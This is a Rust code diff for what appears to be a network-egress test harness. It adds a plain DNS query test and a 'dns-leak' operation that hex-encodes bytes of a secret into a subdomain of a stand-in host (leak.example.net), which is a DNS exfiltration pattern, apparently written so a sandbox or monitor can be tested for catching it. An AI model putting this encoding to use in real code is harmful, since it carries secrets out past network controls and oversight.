@@ -6,12 +6,22 @@ use std::{
 };
 
 use super::{Args, Failure, Families, Operation, Outcome, Step as _, Trace, tcp};
-use crate::sys::{self, Message};
+use crate::{
+    lab::resolver::{A, query},
+    sys::{self, Message},
+};
 
 /// What this file offers.
 pub const OPERATIONS: &[Operation] = &[
     Operation::new("udp-sendto", Trace::Marker, "sendto() on an unconnected socket", sendto),
     Operation::new("udp-connected", Trace::Marker, "connect() and send()", connected),
+    Operation::new("dns-query", Trace::Packet, "a DNS query for an ordinary name", |args| {
+        ask(args, "api.example.com")
+    }),
+    Operation::new("dns-leak", Trace::Packet, "a DNS query with data in the name", |args| {
+        let data: String = args.secret().iter().take(31).map(|byte| format!("{byte:02x}")).collect();
+        ask(args, &format!("{data}.leak.example.net"))
+    }),
     Operation::new("udp-port-zero", Trace::Marker, "connect() to port 0, which sends, and send()", |args| {
         let fd = socket(args.to)?;
         sys::connect(&fd, SocketAddr::from((args.to.ip(), 0))).step("connect")?;
@@ -77,6 +87,12 @@ const UDP_ENCAP_ESPINUDP: i32 = 2;
 /// A UDP socket of the target's family.
 pub(super) fn socket(to: SocketAddr) -> Result<OwnedFd, Failure> {
     sys::socket(sys::family(to), libc::SOCK_DGRAM, libc::IPPROTO_UDP).step("socket")
+}
+
+/// A query for a name.
+fn ask(args: &Args, name: &str) -> Outcome {
+    let fd = socket(args.to)?;
+    sys::send_to(&fd, &query(1, name, A), 0, args.to).step("sendto")
 }
 
 /// The plain way.
